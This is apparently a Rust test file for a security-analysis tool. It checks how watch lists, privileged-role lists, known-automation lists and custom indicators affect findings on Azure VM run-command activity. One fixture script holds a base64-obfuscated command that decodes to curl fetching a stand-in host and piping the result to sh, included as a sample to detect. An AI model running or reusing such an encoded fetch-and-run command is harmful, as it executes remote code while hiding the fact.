//! What the analyst's lists change.

use super::{Table, json};
use crate::lists::ListKind;

fn watching(table: Table, list: &str) -> Table {
    table.list(ListKind::WatchList, list)
}

#[test]
fn a_watch_list_over_everything() {
    let table = Table::of("2024-05-20T12:00:00 run alice@contoso.example 203.0.113.7 vm1 end=+9")
        .file("web01/var/lib/waagent/run-command/download/3/script.sh", "#!/bin/sh\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xL2l8c2gK | base64 -d | sh\n")
        .file("in.json", json!([{
            "createdDateTime": "2024-05-20T11:00:00Z", "appId": "a", "userPrincipalName": "bob@contoso.example", "userId": "b1",
            "ipAddress": "203.0.113.7", "status": { "errorCode": 50126 },
        }]));
    let list = "203.0.113.7,first stage\n192.0.2.0/24\nnever.example\n";
    let found = watching(table.clone(), list).finds("watch-list");
    let said: Vec<(String, String)> = found
        .iter()
        .map(|one| {
            (
                one.values["indicator"].as_str().expect("text").to_owned(),
                one.values["seen_in"].to_string(),
            )
        })
        .collect();
    assert_eq!(said.len(), 3, "{said:?}");
    for one in [
        ("203.0.113.7", "[\"operation\"]"),
        ("203.0.113.7", "[\"sign-in\"]"),
        ("192.0.2.0/24", "[\"script\"]"),
    ] {
        assert!(
            said.iter()
                .any(|(indicator, places)| (indicator.as_str(), places.as_str()) == one),
            "{said:?}"
        );
    }
    assert!(found.iter().all(|one| one.severity.word() == "high"));
    assert!(
        watching(table.clone(), "198.51.100.1\n")
            .finds("watch-list")
            .is_empty()
    );
    let (ran, reason) = table.searched("watch-list");
    assert_eq!(
        (ran, reason.as_deref()),
        (false, Some("not-assessed: no watch-list is loaded"))
    );
}

#[test]
fn privileged_roles_of_the_analyst_are_a_step_of_the_chain() {
    let role = "11111111-1111-1111-1111-111111111111";
    let body = format!(r#"{{"properties":{{"roleDefinitionId":"/x/{role}","principalId":"a"}}}}"#);
    let table = Table::of(&format!(
        "2024-05-20T11:00:00 Microsoft.Authorization/roleAssignments/write alice@contoso.example 52.1.2.3 /x body={body}
         2024-05-20T12:00:00 run alice@contoso.example 52.1.2.3 vm1"
    ));
    assert!(table.finds("run-command-chain").is_empty());
    let listed = table.list(ListKind::PrivilegedRoles, role);
    assert_eq!(
        listed.finds("run-command-chain")[0].values["steps"][0]["step"],
        "grant"
    );
}

#[test]
fn known_automation_is_no_anchor_and_nothing_new() {
    let table = Table::of(
        "2024-05-20T12:00:00 run patch@contoso.example 52.1.2.3 vm1
         2024-05-20T12:10:00 Microsoft.Insights/diagnosticSettings/delete patch@contoso.example 52.1.2.3 /x",
    );
    assert_eq!(table.finds("run-command-chain").len(), 1);
    assert_eq!(table.finds("run-command-new-terms").len(), 1);
    let known = table.list(ListKind::KnownAutomation, "Patch@contoso.example\n");
    assert!(known.finds("run-command-chain").is_empty());
    assert!(known.finds("run-command-new-terms").is_empty());
    let (_, reason) = known.searched("run-command-chain");
    assert!(reason.is_some_and(|reason| reason.contains("1 run command of known automation")));
    // The operation itself stays in sight.
    assert_eq!(known.finds("run-command-invocation").len(), 1);
}

#[test]
fn indicators_of_the_analysts_own() {
    let own = "[[indicator]]\nid='own-zap'\ngroup='OWN'\nos='any'\nwhat='our marker'\nre='zapzap'\npos='zapzap'\nneg='n'\ntechnique='T1059'\nweight=9\n";
    let table = Table::default().file(
        "web01/var/lib/waagent/run-command/download/3/script.sh",
        "#!/bin/sh\nzapzap\n",
    );
    assert!(table.finds("script-content").is_empty());
    let found = table
        .list(ListKind::Indicators, own)
        .finds("script-content");
    assert_eq!(
        (found[0].severity.word(), &found[0].values["indicators"]),
        ("high", &json!(["own-zap"]))
    );
}

/// Bodies of requests, outputs of runs and PowerShell's records hold what the list names as well.
#[test]
fn a_watch_list_looks_into_texts() {
    let body = r#"{"properties":{"osProfile":{"customData":"https://bad.example/x"}}}"#;
    let table = Table::of(&format!(
        "2024-05-20T12:00:00 Microsoft.Compute/virtualMachines/write alice@contoso.example 52.1.2.3 vm1 body={body}"
    ))
    .file("web01/var/lib/waagent/run-command/download/3/script.sh", "#!/bin/sh\n./x\n")
    .file("web01/var/lib/waagent/run-command/download/3/stdout", "connected to 203.0.113.9\n");
    let said = |list: &str| -> Vec<String> {
        let found = watching(table.clone(), list).finds("watch-list");
        found
            .iter()
            .map(|one| one.values["seen_in"].to_string())
            .collect()
    };
    assert_eq!(said("203.0.113.9\n"), ["[\"output\"]"]);
    assert!(said("203.0.113.90\n").is_empty());
    assert_eq!(said("bad.example\n"), ["[\"request\"]"]);
    assert!(said("worse.example\n").is_empty());
}
